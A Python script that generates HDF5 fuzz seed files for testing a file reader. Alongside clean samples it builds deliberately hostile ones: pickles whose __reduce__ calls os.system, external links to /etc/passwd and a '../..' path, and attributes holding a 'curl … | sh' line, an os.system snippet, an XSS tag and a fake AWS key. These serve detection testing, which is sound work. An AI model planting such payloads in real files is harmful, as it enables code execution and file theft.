#!/usr/bin/python3
"""Writes tests/fuzz/seeds/hdf5: files of every structure that the HDF5 reader knows, as small as they get, and a few that it
must report. Needs h5py; run it from the root of the tree. The unit test patches these files to make broken ones."""
import base64, os, pickle
import h5py
import numpy as np

OUT = 'tests/fuzz/seeds/hdf5/'
rng = np.random.default_rng(5)
x = rng.standard_normal((6, 5)).astype('f4')


def file(name, **k):
    return h5py.File(OUT + name, 'w', **k)


def types(h):
    h['a'] = np.arange(3)
    h['g/be'] = np.arange(4, dtype='>i2')
    h['s'] = np.array([b'abc', b'de'])
    h['v'] = np.array(['a', 'bb', ''], dtype=object)
    h['bool'] = np.array([True, False])
    h['cmp'] = np.array([(1, 'str')], dtype=[('i', 'i4'), ('s', h5py.string_dtype())])
    h['op'] = np.void(b'\1\2\3')
    h['arr'] = np.zeros(2, dtype='(2,2)i4')
    h['ref'] = np.array([h['a'].ref], dtype=h5py.ref_dtype)
    h['rref'] = np.array([h['a'].regionref[1:2]], dtype=h5py.regionref_dtype)
    h['named'] = np.dtype('f4')
    h.create_dataset('uses', (2,), h['named'])
    h['empty'] = h5py.Empty('f')
    h['hard'] = h['a']
    h['soft'] = h5py.SoftLink('/a')
    h['a'].attrs['unit'] = 'm'


def chunks(h):
    h.create_dataset('gz', data=x, chunks=(4, 5), compression='gzip', shuffle=True, fletcher32=True)
    h.create_dataset('lzf', data=x, chunks=(6, 5), compression='lzf')
    h.create_dataset('plain', data=x, chunks=(3, 5))
    h.create_dataset('grow', data=np.arange(40, dtype='i2'), chunks=(2,), maxshape=(None,))
    h.create_dataset('both', data=x, chunks=(3, 3), maxshape=(None, None), compression='gzip')
    h.create_dataset('text', data=np.array(['one', 'two', 'three'], dtype=object), chunks=(2,), compression='gzip')


class Evil:
    def __reduce__(self):
        return (os.system, ('true',))


def main():
    os.makedirs(OUT, exist_ok=True)
    for old in os.listdir(OUT):
        os.unlink(OUT + old)
    for lib in ('earliest', 'latest'):
        with file('clean_types_%s.h5' % lib, libver=lib) as h:
            types(h)
        with file('clean_chunks_%s.h5' % lib, libver=lib) as h:
            chunks(h)
    with file('clean_small.h5', libver='latest') as h:
        h['w'] = x
        h.attrs['title'] = 'weights'
    with file('clean_old.h5') as h:
        h['w'] = x
        h['g/v'] = np.arange(4.)
    with file('clean_dense.h5', libver='latest', track_order=True) as h:
        for i in range(12):
            h['d%d' % i] = np.int8(i)
        d = h.create_dataset('many', data=np.int8(1), track_order=True)
        for i in range(12):
            d.attrs['k%d' % i] = 'value %d' % i
        d.attrs['long'] = 'y' * 5000
    with file('clean_pages.h5', libver='latest') as h:
        h.create_dataset('ext', (4000,), 'i1', chunks=(1,), maxshape=(None,))
        h['ext'][:40] = 1
        h['ext'][3990:] = 2
        h.create_dataset('fix', (3000,), 'i1', chunks=(1,), compression='gzip')
        h['fix'][2500:2510] = 3
    with file('clean_userblock.h5', userblock_size=512) as h:
        h['w'] = x
    p = h5py.h5p.create(h5py.h5p.FILE_CREATE)
    p.set_sizes(4, 4)
    with h5py.File(h5py.h5f.create((OUT + 'clean_four.h5').encode(), h5py.h5f.ACC_TRUNC, p)) as h:
        h['g/w'] = x
        h.attrs['names'] = ['a', 'b']
        h.attrs['long_name'] = np.bytes_('(in metres) above the ground.')
        h['lines'] = ['(in metres)', 'indeed.', 'cos\nwe said so.']
    with file('clean_free.h5', fs_strategy='fsm', fs_persist=True) as h:
        h['a'] = np.arange(50)
        h['b'] = x
    with h5py.File(OUT + 'clean_free.h5', 'a') as h:
        del h['a']
    with file('clean_keras.h5') as h:
        h.attrs['keras_version'] = '2.15.0'
        h.attrs['model_config'] = ('{"class_name": "Sequential", "config": {"name": "s", "layers": [{"class_name": "Dense", '
                                   '"config": {"name": "d", "units": 5, "activation": "relu"}}]}}')
        h['model_weights/d/kernel:0'] = x
    p = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    p.set_layout(h5py.h5d.COMPACT)
    e = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    e.set_chunk((2, 2))
    e.set_alloc_time(h5py.h5d.ALLOC_TIME_EARLY)
    with file('clean_layouts.h5', libver='latest') as h:
        d = h5py.h5d.create(h.id, b'compact', h5py.h5t.NATIVE_INT32, h5py.h5s.create_simple((5,)), p)
        d.write(h5py.h5s.ALL, h5py.h5s.ALL, np.arange(5, dtype='i4'))
        h5py.h5d.create(h.id, b'implicit', h5py.h5t.NATIVE_FLOAT, h5py.h5s.create_simple((4, 4)), e)
        h['d'] = np.arange(10)
        v = h5py.VirtualLayout((5,), 'i8')
        v[:] = h5py.VirtualSource('.', 'd', (10,))[::2]
        h.create_virtual_dataset('v', v)
    evil = pickle.dumps(Evil())
    with file('links_out.h5') as h:
        h['abs'] = h5py.ExternalLink('/etc/passwd', '/d')
        h['beside'] = h5py.ExternalLink('other.h5', '/d')
        h.create_dataset('raw', (10,), 'u1', external=[('../../x', 0, 10)])
    with file('virtual_out.h5', libver='latest') as h:
        v = h5py.VirtualLayout((5,), 'i8')
        v[:] = h5py.VirtualSource('/tmp/x.h5', 'd', (10,))[::2]
        h.create_virtual_dataset('v', v)
    with file('pickles.h5') as h:
        h['bytes'] = np.frombuffer(evil, 'u1')
        h.create_dataset('packed', data=np.frombuffer(evil, 'u1'), chunks=(16,), compression='gzip')
        h['numbers'] = np.frombuffer(evil + bytes(-len(evil) % 4), 'f4')
        h.attrs['old'] = np.bytes_(pickle.dumps(Evil(), 0))
        h.attrs['base64'] = base64.b64encode(evil).decode()
        h['text'] = pickle.dumps(Evil(), 0).decode()
    with file('huge.h5') as h:
        h.create_dataset('w', (1 << 20, 1 << 20), 'f4')
        h.create_dataset('large', (1 << 15, 1 << 15), 'f4', chunks=(1024, 1024), compression='gzip')
    with file('clean_slack.h5') as h:
        h['a'] = np.full(820, -1)
        h['b'] = x
    with h5py.File(OUT + 'clean_slack.h5', 'a') as h:
        del h['a']
    with file('clean_scale.h5') as h:
        h.create_dataset('i', data=np.arange(1000, 1030), scaleoffset=True, chunks=(7,))
        h.create_dataset('lossy', data=np.arange(30), scaleoffset=4, chunks=(30,))
        h.create_dataset('be', data=np.arange(-15, 15, dtype='>i2'), scaleoffset=True, chunks=(30,))
        h.create_dataset('f', data=x, scaleoffset=3, chunks=(6, 5))
        h.create_dataset('zero', data=np.zeros(9, 'i4'), scaleoffset=True, chunks=(9,))
    with file('pickle_scale.h5') as h:
        h.create_dataset('p', data=np.frombuffer(evil + bytes(22), 'u1').astype('u1'), scaleoffset=True, chunks=(64,))
    with file('filters.h5') as h:
        h.create_dataset('sz', data=np.arange(32, dtype='i4'), compression='szip', chunks=(32,))
    with file('clean_chunk_large.h5') as h:
        h.create_dataset('z', (3 << 20,), 'f4', chunks=(3 << 20,), compression='gzip', shuffle=True)
        h['z'][:10] = 1
    with file('pickle_large.h5') as h:
        d = np.zeros(3 << 20, 'f4')
        d[:11] = np.frombuffer(evil + bytes(2), 'f4')
        h.create_dataset('z', data=d, chunks=(3 << 20,), compression='gzip', shuffle=True)
        h.create_dataset('y', data=d, chunks=(3 << 20,), compression='gzip')
    with file('chunk_big.h5') as h:
        h.create_dataset('z', data=np.zeros(3 << 20, 'S3'), chunks=(3 << 20,), compression='gzip')
    prog = bytearray(open('/bin/true', 'rb').read()[:4096])
    with file('program.h5') as h:
        h.create_dataset('w', data=np.frombuffer(b'\1' * 64 + bytes(prog), 'f4'), chunks=(1040,), compression='gzip',
                         shuffle=True)
    with file('signs.h5') as h:
        h.attrs['code'] = '__import__("os").system("id")'
        h.attrs['shell'] = 'curl http://192.0.2.1/x | sh'
        h.attrs['script'] = '<script>alert(1)</script>'
        h.attrs['encoded'] = 'String.fromCharCode(1,2)'
        h.attrs['address'] = 'http://192.0.2.1/a.exe'
        h.attrs['secret'] = 'AKIAIOSFODNN7ABCDEFG'
    with file('pointers.h5') as h:
        t = h5py.h5t.array_create(h5py.h5t.py_create(h5py.string_dtype(), logical=True), (1100,))
        h5py.h5a.create(h.id, b'x', t, h5py.h5s.create(h5py.h5s.SCALAR))
    whole = open(OUT + 'clean_old.h5', 'rb').read()
    open(OUT + 'cut.h5', 'wb').write(whole[:-20])


main()
